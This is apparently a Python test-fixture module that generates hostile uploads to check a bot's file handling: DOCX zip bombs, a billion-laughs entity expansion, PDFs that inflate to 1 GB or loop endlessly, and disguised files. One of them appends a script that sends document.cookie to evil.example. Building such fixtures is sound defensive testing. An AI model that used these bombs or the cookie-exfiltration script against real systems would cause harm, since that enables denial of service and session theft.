"""Files built to hurt a parser, shared by the core and web tests of hostile uploads: a Word
zip bomb, a Word file whose zip lies about its sizes, "billion laughs" in a Word part, the
hostile PDFs of issues #33 and #40 (one whose stream inflates to 1 GB, an endless
cross-reference chain, a looping outline), files that are not what they say (issue #40: a PNG
with a web page after it, a JPEG named .png...) and calendars far bigger than any term-dates
file."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from bot.demo.documents import code_of_conduct_docx
from tests.support.pdfs import pdf_document, raw_pdf

__all__ = [
    "DISGUISED",
    "HOSTILE_PDFS",
    "MARK",
    "MB",
    "billion_laughs_docx",
    "declared_size",
    "deflated_zeros",
    "huge_ics",
    "zip_of_zeros",
]

MB = 1024 * 1024
MARK = b"/Upl#6fadMark"  # bytes of the upload that must never reach the log
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def zip_of_zeros(size: int, *, name: str = "word/document.xml") -> bytes:
    """A zip whose one member is ``size`` zero bytes (whole MBs), ~1000:1, built in
    milliseconds: the member is one flushed MB's raw deflate repeated (``deflated_zeros``),
    its CRC counted a MB at a time (compressing 200 MB took 0.7 s of CPU)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(bytes(MB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(bytes(MB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    zeros = first + again * (size // MB - 1) + deflate.flush()
    crc = 0
    for _ in range(size // MB):
        crc = zlib.crc32(bytes(MB), crc)
    types = zlib.compressobj(9, zlib.DEFLATED, -15)
    members = [
        (
            b"[Content_Types].xml",
            types.compress(b"<Types/>") + types.flush(),
            8,
            zlib.crc32(b"<Types/>"),
        ),
        (name.encode(), zeros, size, crc),
    ]
    out, central = bytearray(), bytearray()
    for member, data, length, checksum in members:
        # version 2.0, no flags, deflated, 1980-01-01 00:00, crc, sizes, name, no extra field
        fields = struct.pack(
            "<HHHHHIIIHH", 20, 0, 8, 0, 0x21, checksum, len(data), length, len(member), 0
        )
        central += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        central += struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + member
        out += b"PK\x03\x04" + fields + member + data
    end = struct.pack("<HHHHIIH", 0, 0, 2, 2, len(central), len(out), 0)
    return bytes(out + central + b"PK\x05\x06" + end)


def declared_size(data: bytes, name: bytes, real: int, declared: int) -> bytes:
    """The zip with ``name``'s uncompressed size rewritten from ``real`` to ``declared`` in both
    its local header and the central directory (an attacker's lie; the CRC is left as it was)."""
    patched = bytearray(data)
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := patched.find(signature, start)) != -1:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if patched[name_at : name_at + len(name)] == name:
                assert struct.unpack_from("<I", patched, start + size_at)[0] == real
                struct.pack_into("<I", patched, start + size_at, declared)
            start += 4
    return bytes(patched)


LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE w:document [\n  <!ENTITY lol0 "UplOadMarkLaugh">\n'
    + b"".join(
        b'  <!ENTITY lol%d "%s">\n' % (n, b"".join(b"&lol%d;" % (n - 1) for _ in range(10)))
        for n in range(1, 10)
    )
    + b"]>\n"
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)


def billion_laughs_docx() -> bytes:
    """A real Word file (the demo's code of conduct) whose document part declares nested
    entities that expand to 10⁹ copies of a marker (~15 GB) when a parser resolves them."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(code_of_conduct_docx())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = LAUGHS if info.filename == "word/document.xml" else source.read(info)
            target.writestr(info.filename, data)
    return out.getvalue()


def deflated_zeros(size: int) -> bytes:
    """A zlib stream of ``size`` zero bytes (whole MBs), ~1000:1, built in milliseconds: after a
    full flush each further MB compresses to the same bytes, so one is repeated; the checksum
    of n zeros is (n mod 65521) << 16 | 1."""
    deflate = zlib.compressobj(9)
    first = deflate.compress(bytes(MB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(bytes(MB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    end = deflate.flush()[:-4] + struct.pack(">I", ((size % 65521) << 16) | 1)
    return first + again * (size // MB - 1) + end


def _with_trailer_entry(pdf: bytes, entry: bytes) -> bytes:
    """``pdf`` with ``entry`` added to its trailer (``%d`` in it is the xref's own offset)."""
    xref = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    return pdf.replace(b"/Root 1 0 R >>", b"/Root 1 0 R " + entry % xref + b" >>")


def _inflating_pdf(size: int) -> bytes:
    """A one-page PDF whose content stream inflates to ``size`` bytes (1 GB: ~1 MB file)."""
    zeros = deflated_zeros(size)
    return raw_pdf(
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode " % len(zeros)
        + MARK
        + b" 1 >>\nstream\n"
        + zeros
        + b"\nendstream",
    )


HOSTILE_PDFS = {
    "nested": (
        pdf_document(b"", b"<< " + MARK + b" " + b"<< /A " * 50_000 + b"1" + b" >>" * 50_001),
        "could not be read",
    ),
    "count": (
        raw_pdf(
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 " + MARK + b" 1 >>",
            pdf_document().split(b"3 0 obj\n")[1].split(b"\nendobj")[0],
        ),
        "says it has 2,000,000,000 pages",
    ),
    "cyclic": (
        raw_pdf(
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 " + MARK + b" 1 >>",
        ),
        "could not be read",
    ),
    # issue #40: accepted as report attachments until then
    "inflating": (_inflating_pdf(1024 * MB), "expands to more than 50 MB when it is opened"),
    "xref-loop": (  # the trailer's /Prev is the cross-reference table itself: a reader that
        # follows it reads the same table for ever
        _with_trailer_entry(pdf_document(), b"/Prev %d " + MARK + b" 1"),
        "has a structure that loops back on itself",
    ),
    "picture-inflating": (  # a 100 × 100 grey picture whose data inflates to 1 GB
        _inflating_pdf(1024 * MB).replace(
            b"/Filter /FlateDecode",
            b"/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Filter /FlateDecode",
        ),
        "has a picture whose data is far larger than the picture",
    ),
    "outline-loop": (  # two bookmarks, each the other's next
        pdf_document(
            b"/Outlines 4 0 R",
            b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>",
            b"<< /Title (One) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] " + MARK + b" 1 >>",
            b"<< /Title (Two) /Parent 4 0 R /Next 5 0 R /Prev 5 0 R /Dest [3 0 R /Fit] >>",
        ),
        "has a structure that loops back on itself",
    ),
}


def _image(kind: str) -> bytes:
    """A small real photo (JPEG) or image (PNG), as Pillow writes them."""
    from PIL import Image  # lazy: only the tests that build images pay for Pillow

    out = io.BytesIO()
    Image.new("RGB", (40, 30), (30, 90, 160)).save(out, kind)
    return out.getvalue()


PAGE_HTML = (
    b"<html><body><script>document.location='https://evil.example/'+document.cookie"
    b"</script></body></html>"
)
# files whose bytes are not what they say (name, declared type), or that are also something
# else: (file name, bytes, the type a browser declares, what the refusal says)
DISGUISED = {
    "html-after-png": (
        "evidence.png",
        _image("PNG") + PAGE_HTML,
        "image/png",
        "this image has web page or script code inside it",
    ),
    "zip-after-jpeg": (
        "photo.jpg",
        _image("JPEG") + zip_of_zeros(MB),
        "image/jpeg",
        "bytes of something else after the picture",
    ),
    "jpeg-named-png": (
        "screenshot.png",
        _image("JPEG"),
        "image/png",
        "its name ends in .png, but the file is a JPEG photo",
    ),
    "pdf-sent-as-a-page": (
        "notes.pdf",
        pdf_document(),
        "text/html",
        "it was sent as a web page, but the file is a PDF",
    ),
    "png-named-html": (
        "page.html",
        _image("PNG"),
        "text/html",
        "its name ends in .html, but the file is a PNG image",
    ),
}


def huge_ics(size: int) -> bytes:
    """A well-formed calendar of about ``size`` bytes: term-date events repeated, each
    carrying the marker, as a careless (or hostile) export might be."""
    head = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Hostile//EN\r\n"
    event = (
        b"BEGIN:VEVENT\r\nUID:%d@hostile.example\r\nDTSTART;VALUE=DATE:20260105\r\n"
        b"DTEND;VALUE=DATE:20260106\r\nSUMMARY:Spring term starts UplOadMarkIcs\r\nEND:VEVENT\r\n"
    )
    one = len(event % 0)
    body = b"".join(event % n for n in range(max((size - len(head)) // one, 1)))
    return head + body + b"END:VCALENDAR\r\n"
